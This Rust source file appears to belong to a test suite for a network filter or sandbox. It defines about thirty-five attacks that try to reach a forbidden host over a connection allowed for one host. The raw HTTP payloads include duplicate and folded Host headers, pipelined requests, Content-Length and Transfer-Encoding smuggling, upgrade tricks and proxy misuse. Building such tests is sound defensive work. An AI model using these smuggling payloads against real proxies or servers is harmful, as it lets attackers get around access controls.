//! Requests for another host on a connection that was allowed for one: openly, as the second one,
//! hidden in a body, or written so that a strict reader sees none. T39, T41
//!
//! A mark stands behind the first line: a line that has not ended tells no server anything, and is
//! passed on.

use std::net::{Ipv4Addr, TcpStream};

use super::client::{
    Route, dial, exchange, expect_hello, forward, get, if_forwarded, if_works, leave, leave_all,
};
use super::on_usual;
use crate::attack::{Attack, Outcome, Refused, Scene};
use crate::world::{HTTP_PORT, PROXY_PORT};

/// One message on a connection to the allowed host; `MARK` in it is the attack's.
macro_rules! says {
    ($id:literal, $name:literal, $summary:literal, $message:expr) => {
        on_usual($id, $name, $summary, |scene| say(scene, Route::Straight, $message))
    };
}

pub(crate) const ATTACKS: &[Attack] = &[
    says!("T39", "other-host", "asks an allowed server for another host", OTHER_HOST),
    on_usual("T39", "other-host-over-connect", "the same in a tunnel", |scene| {
        say(scene, Route::Connect, OTHER_HOST)
    }),
    on_usual("T39", "other-host-over-socks", "the same by SOCKS", |scene| {
        say(scene, Route::Socks5, OTHER_HOST)
    }),
    says!(
        "T39",
        "absolute-address",
        "asks it for another host in the first line alone",
        "GET http://other.example/ HTTP/1.1\r\nHost: web.example\r\nX-Mark: MARK\r\n\r\n"
    ),
    says!(
        "T39",
        "absolute-address-of-allowed",
        "asks it for another host beside the first line",
        "GET http://web.example/ HTTP/1.1\r\nHost: other.example\r\nX-Mark: MARK\r\n\r\n"
    ),
    says!(
        "T39",
        "other-port-of-host",
        "asks it for another port",
        "GET / HTTP/1.1\r\nHost: web.example:8080\r\nX-Mark: MARK\r\n\r\n"
    ),
    says!("T39", "no-host", "asks it for no host", "GET / HTTP/1.0\r\nX-Mark: MARK\r\n\r\n"),
    says!("T39", "no-version", "asks as the first browsers did", "GET /?MARK\r\n"),
    says!(
        "T39",
        "http2-unasked",
        "speaks HTTP/2, whose hosts nobody sees",
        "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\nMARK"
    ),
    says!(
        "T39",
        "balancers-line",
        "says whom the request is for, as a load balancer does",
        "PROXY TCP4 203.0.113.9 203.0.113.3 1 80\r\n\
         GET / HTTP/1.1\r\nHost: web.example\r\nX-Mark: MARK\r\n\r\n"
    ),
    says!(
        "T41",
        "two-hosts",
        "names two hosts",
        "GET / HTTP/1.1\r\nHost: web.example\r\nHost: other.example\r\nX-Mark: MARK\r\n\r\n"
    ),
    says!(
        "T41",
        "two-hosts-reversed",
        "names them in the other order",
        "GET / HTTP/1.1\r\nHost: other.example\r\nHost: web.example\r\nX-Mark: MARK\r\n\r\n"
    ),
    says!(
        "T41",
        "host-with-blank",
        "puts a blank behind the name of the field",
        "GET / HTTP/1.1\r\nHost: web.example\r\nHost : other.example\r\nX-Mark: MARK\r\n\r\n"
    ),
    says!(
        "T41",
        "folded-host",
        "goes on with the host in the next line",
        "GET / HTTP/1.1\r\nHost: web.example\r\n other.example\r\nX-Mark: MARK\r\n\r\n"
    ),
    says!(
        "T41",
        "list-of-hosts",
        "names a list of hosts",
        "GET / HTTP/1.1\r\nHost: web.example, other.example\r\nX-Mark: MARK\r\n\r\n"
    ),
    says!(
        "T41",
        "line-feeds-alone",
        "ends lines in another way",
        "GET / HTTP/1.1\nHost: other.example\nX-Mark: MARK\n\n"
    ),
    says!(
        "T41",
        "returns-alone",
        "ends them in a third one",
        "GET / HTTP/1.1\rHost: other.example\rX-Mark: MARK\r\r"
    ),
    says!(
        "T41",
        "nul-before-request",
        "puts a NUL before the request",
        "\0GET / HTTP/1.1\r\nHost: other.example\r\nX-Mark: MARK\r\n\r\n"
    ),
    says!(
        "T41",
        "unknown-method",
        "asks with a method that nobody knows",
        "FETCH / HTTP/1.1\r\nHost: other.example\r\nX-Mark: MARK\r\n\r\n"
    ),
    says!(
        "T41",
        "other-protocol",
        "calls its protocol another one",
        "GET / RTSP/1.0\r\nHost: other.example\r\nX-Mark: MARK\r\n\r\n"
    ),
    says!(
        "T41",
        "tunnel-through-host",
        "asks the allowed server for a tunnel",
        "CONNECT other.example:80 HTTP/1.1\r\nHost: other.example:80\r\nX-Mark: MARK\r\n\r\n"
    ),
    says!(
        "T41",
        "pipelined-request",
        "asks for another host without waiting",
        "GET / HTTP/1.1\r\nHost: web.example\r\n\r\n\
         GET / HTTP/1.1\r\nHost: other.example\r\nX-Mark: MARK\r\n\r\n"
    ),
    says!(
        "T41",
        "length-and-chunks",
        "hides a request behind two lengths that differ",
        "POST / HTTP/1.1\r\nHost: web.example\r\nContent-Length: 200\r\n\
         Transfer-Encoding: chunked\r\n\r\n0\r\n\r\n\
         GET / HTTP/1.1\r\nHost: other.example\r\nX-Mark: MARK\r\n\r\n"
    ),
    says!(
        "T41",
        "two-lengths",
        "says two lengths",
        "POST / HTTP/1.1\r\nHost: web.example\r\nContent-Length: 200\r\nContent-Length: 0\r\n\r\n\
         GET / HTTP/1.1\r\nHost: other.example\r\nX-Mark: MARK\r\n\r\n"
    ),
    says!(
        "T41",
        "length-with-sign",
        "writes a length that not everybody reads",
        "POST / HTTP/1.1\r\nHost: web.example\r\nContent-Length: +200\r\n\r\n\
         GET / HTTP/1.1\r\nHost: other.example\r\nX-Mark: MARK\r\n\r\n"
    ),
    says!(
        "T41",
        "unknown-coding",
        "writes a coding that not everybody reads",
        "POST / HTTP/1.1\r\nHost: web.example\r\nTransfer-Encoding: xchunked\r\n\r\n0\r\n\r\n\
         GET / HTTP/1.1\r\nHost: other.example\r\nX-Mark: MARK\r\n\r\n"
    ),
    says!(
        "T41",
        "chunk-of-odd-size",
        "writes the size of a chunk in another way",
        "POST / HTTP/1.1\r\nHost: web.example\r\nTransfer-Encoding: chunked\r\n\r\n0x48\r\n\
         GET / HTTP/1.1\r\nHost: other.example\r\nX-Mark: MARK\r\n\r\n\r\n0\r\n\r\n"
    ),
    says!(
        "T41",
        "length-not-passed-on",
        "has the next proxy take a length out",
        "POST / HTTP/1.1\r\nHost: web.example\r\nConnection: content-length\r\n\
         Content-Length: 72\r\n\r\n\
         GET / HTTP/1.1\r\nHost: other.example\r\nX-Mark: MARK\r\n\r\n"
    ),
    on_usual("T41", "second-request", "asks for another host on the same connection", |scene| {
        second(scene, Route::Straight)
    }),
    on_usual("T41", "second-request-over-connect", "the same in a tunnel", |scene| {
        second(scene, Route::Connect)
    }),
    on_usual("T41", "switch-not-agreed", "offers another protocol and does not wait", |scene| {
        let offer = "GET / HTTP/1.1\r\nHost: web.example\r\nConnection: upgrade\r\n\
             Upgrade: websocket\r\n\r\n";
        say(scene, Route::Straight, &[offer, OTHER_HOST].concat())
    }),
    on_usual("T41", "switch-to-unread", "offers one in which hosts are not seen", |scene| {
        Route::Straight.then(|| {
            let stream = Route::Straight.open(b"web.example", HTTP_PORT)?;
            let offer = "GET / HTTP/1.1\r\nHost: web.example\r\nConnection: upgrade\r\n\
                 Upgrade: h2c\r\n\r\n";
            expect_hello(exchange(&stream, offer.as_bytes())?)?;
            leave(&stream, &with_mark(scene, OTHER_HOST))
        })
    }),
    on_usual("T41", "proxy-second-request", "asks a proxy for an allowed host, then another", {
        |scene| {
            if_forwarded(|| {
                let proxy = dial((Ipv4Addr::LOCALHOST, PROXY_PORT))?;
                expect_hello(exchange(&proxy, &get("web.example", "http://web.example/"))?)?;
                leave(&proxy, &with_mark(scene, OTHER_URL))
            })
        }
    }),
    on_usual("T41", "proxy-pipelined-request", "the same without waiting", |scene| {
        let first = "GET http://web.example/ HTTP/1.1\r\nHost: web.example\r\n\r\n";
        if_forwarded(|| {
            let proxy = dial((Ipv4Addr::LOCALHOST, PROXY_PORT))?;
            leave_all(&proxy, &with_mark(scene, &[first, OTHER_URL].concat()))
        })
    }),
    on_usual("T41", "proxy-hosts-disagree", "names one host in the URL, another beside it", {
        |scene| {
            let request = "GET http://other.example/ HTTP/1.1\r\nHost: web.example\r\n\
                 X-Mark: MARK\r\n\r\n";
            if_forwarded(|| forward(&with_mark(scene, request)))
        }
    }),
    on_usual("T41", "proxy-other-host-beside", "names the allowed one in the URL", |scene| {
        let request = "GET http://web.example/ HTTP/1.1\r\nHost: other.example\r\n\
             X-Mark: MARK\r\n\r\n";
        if_forwarded(|| forward(&with_mark(scene, request)))
    }),
];

fn with_mark(scene: &Scene<'_>, message: &str) -> Vec<u8> {
    message.replace("MARK", &format!("{};", scene.mark())).into_bytes()
}

/// Says something to the allowed host.
fn say(scene: &Scene<'_>, route: Route, message: &str) -> Result<Outcome, Refused> {
    let is_one = message.matches("\r\n\r\n").count() <= 1;
    let leave = if is_one { leave } else { leave_all };
    route.then(|| leave(&route.open(b"web.example", HTTP_PORT)?, &with_mark(scene, message)))
}

/// Asks the allowed host for itself first.
fn second(scene: &Scene<'_>, route: Route) -> Result<Outcome, Refused> {
    let first = || -> Result<TcpStream, Refused> {
        let stream = route.open(b"web.example", HTTP_PORT)?;
        expect_hello(exchange(&stream, &get("web.example", "/"))?)?;
        Ok(stream)
    };
    match first() {
        Ok(stream) => leave(&stream, &with_mark(scene, OTHER_HOST)),
        Err(refused) => if_works(Err(refused), || Ok(Outcome::Attempted(String::new()))),
    }
}

const OTHER_HOST: &str = "GET / HTTP/1.1\r\nHost: other.example\r\nX-Mark: MARK\r\n\r\n";
const OTHER_URL: &str =
    "GET http://other.example/ HTTP/1.1\r\nHost: other.example\r\nX-Mark: MARK\r\n\r\n";
